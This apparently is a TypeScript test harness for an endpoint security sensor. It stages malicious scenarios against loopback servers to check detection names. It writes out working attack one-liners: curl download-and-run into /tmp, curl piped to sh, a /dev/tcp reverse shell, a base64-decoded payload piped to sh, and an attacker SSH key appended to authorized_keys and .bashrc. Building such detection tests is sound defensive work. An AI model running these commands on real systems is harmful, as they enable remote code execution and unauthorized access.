/**
 * The malicious scenarios, each a real process tree started from a script in
 * the marked scratch tmpfs. Each returns what happened so block-mode and
 * audit-mode tests can assert opposite outcomes on the same behavior.
 */
import { httpServer, run, script, type TestAgent } from "./_harness.ts";

export interface Outcome {
  /** The malicious step's effect happened (payload ran, shell ran to its end). */
  effect: boolean;
  /** Threat names bm may give this scenario. */
  names: string[];
  detail: string;
}

const enc = (s: string) => btoa(s);

/**
 * curl downloads an executable (a small ELF program built here) into the
 * scratch tmpfs (a /tmp path) and runs it. An ELF rather than a script: the
 * exec record of a script names its interpreter, not the file.
 */
export async function downloadAndRun(agent: TestAgent): Promise<Outcome> {
  const marker = `${agent.scratch}/payload_ran`;
  const src = `${agent.dir}/payload.c`;
  const bin = `${agent.dir}/payload.bin`;
  await Deno.writeTextFile(
    src,
    [
      "#include <stdio.h>",
      "#include <unistd.h>",
      "int main(void) {",
      `  FILE *f = fopen(${JSON.stringify(marker)}, "w");`,
      '  if (f) { fputs("ran\\n", f); fclose(f); }',
      "  usleep(500000); /* live a moment, like a real payload */",
      "  return 0;",
      "}",
      "",
    ].join("\n"),
  );
  const cc = await run("gcc", ["-O2", "-o", bin, src], { timeoutMs: 60_000 });
  if (cc.code !== 0) throw new Error(`gcc failed: ${cc.stderr}`);
  const srv = httpServer({ "/payload": await Deno.readFile(bin) });
  try {
    const s = await script(
      agent,
      "download_run.sh",
      [
        `curl -s -o "${agent.scratch}/payload" "http://127.0.0.1:${srv.port}/payload"`,
        `chmod +x "${agent.scratch}/payload"`,
        `"${agent.scratch}/payload"`,
        `echo "exec status $?"`,
      ].join("\n"),
    );
    const r = await run("/bin/sh", [s], { timeoutMs: 20_000 });
    return {
      effect: exists(marker),
      names: ["Behavior:Linux/DropExecTemp.A", "Behavior:Linux/DropExecTemp.B"],
      detail: `${r.stdout}${r.stderr}`.trim(),
    };
  } finally {
    await srv.close();
  }
}

/** curl output piped into a shell (curl | sh). */
export async function fetchPipeShell(agent: TestAgent, sleepSeconds: number): Promise<Outcome> {
  const marker = `${agent.scratch}/fetched_script_finished`;
  const srv = httpServer({ "/s.sh": `sleep ${sleepSeconds}\necho done > "${marker}"\n` });
  try {
    const s = await script(
      agent,
      "fetch_pipe.sh",
      `curl -s "http://127.0.0.1:${srv.port}/s.sh" | sh`,
    );
    const r = await run("/bin/sh", [s], { timeoutMs: 30_000 });
    return {
      effect: exists(marker),
      names: ["Behavior:Linux/FetchPipeShell.A", "Behavior:Linux/FetchPipeShell.B"],
      detail: `${r.stdout}${r.stderr}`.trim(),
    };
  } finally {
    await srv.close();
  }
}

/** An interactive shell whose stdin and stdout are a TCP socket to a loopback listener. */
export async function reverseShell(agent: TestAgent, holdSeconds: number): Promise<Outcome> {
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = (listener.addr as Deno.NetAddr).port;
  const marker = `${agent.scratch}/reverse_shell_ran`;
  try {
    const s = await script(
      agent,
      "reverse.sh",
      `exec /bin/sh -i <>/dev/tcp/127.0.0.1/${port} >&0 2>&0`,
    );
    // bash provides /dev/tcp
    const child = new Deno.Command("/bin/bash", {
      args: [s],
      stdin: "null",
      stdout: "null",
      stderr: "null",
    })
      .spawn();
    const conn = await Promise.race([
      listener.accept(),
      new Promise<undefined>((r) => setTimeout(() => r(undefined), 10_000)),
    ]);
    if (!conn) {
      child.kill("SIGKILL");
      await child.status;
      return { effect: false, names: [], detail: "the shell never connected" };
    }
    // The operator's commands: wait a moment, then leave a mark.
    await new Promise((r) => setTimeout(r, holdSeconds * 1000));
    try {
      await conn.write(new TextEncoder().encode(`echo ran > "${marker}"; exit\n`));
    } catch { /* socket closed by the kill */ }
    const timer = setTimeout(() => {
      try {
        child.kill("SIGKILL");
      } catch { /* gone */ }
    }, 10_000);
    const st = await child.status;
    clearTimeout(timer);
    try {
      conn.close();
    } catch { /* closed */ }
    return {
      effect: exists(marker),
      names: [
        "Behavior:Linux/ReverseShellSocket.A",
        "Behavior:Linux/DevTcpRedirect.A",
        "Behavior:Linux/PythonPtySpawn.A",
      ],
      detail: `shell exit ${st.code} signal ${st.signal}`,
    };
  } finally {
    listener.close();
  }
}

/** A base64 payload decoded and piped into a shell. */
export async function decodedPayload(agent: TestAgent, sleepSeconds: number): Promise<Outcome> {
  const marker = `${agent.scratch}/decoded_finished`;
  const payload = enc(`sleep ${sleepSeconds}; echo done > "${marker}"\n`);
  // The payload arrives a moment late (as from a network fetch) so the decoder
  // is still alive when the sensor reads its argv from /proc (a decoder that
  // exits within microseconds loses that race and is counted as an
  // enrichment miss), and the shell starts after the decoder (the pack's rule
  // expects that order; the reverse is a known gap).
  const s = await script(
    agent,
    "decode.sh",
    `(sleep 0.3; echo ${payload}) | base64 -d | (sleep 0.6; exec sh)`,
  );
  const r = await run("/bin/sh", [s], { timeoutMs: 30_000 });
  return {
    effect: exists(marker),
    names: ["Behavior:Linux/DecodePipeShell.A"],
    detail: `${r.stdout}${r.stderr}`.trim(),
  };
}

/** Persistence: an SSH key and a shell rc line written into a home directory. */
export async function persistence(agent: TestAgent, home: string): Promise<Outcome> {
  const s = await script(
    agent,
    "persist.sh",
    [
      `mkdir -p "${home}/.ssh"`,
      // tee writes both files (the shell-rc rule does not count shells
      // themselves as suspicious writers: they write their own rc files)
      // the writer lives a moment (as real droppers do): a process that exits
      // within microseconds of its exec can have its file events arrive
      // before its exec record (a known sensor ordering gap)
      `(printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIbmtestkey attacker\\n'; sleep 0.5) | tee -a "${home}/.ssh/authorized_keys" "${home}/.bashrc" >/dev/null`,
    ].join("\n"),
  );
  const r = await run("/bin/sh", [s], { timeoutMs: 20_000 });
  return {
    effect: exists(`${home}/.bashrc`),
    names: ["Behavior:Linux/ShellRcWrite.A", "Behavior:Linux/AuthorizedKeysWrite.A"],
    detail: `${r.stdout}${r.stderr}`.trim(),
  };
}

export function exists(p: string): boolean {
  try {
    Deno.statSync(p);
    return true;
  } catch {
    return false;
  }
}
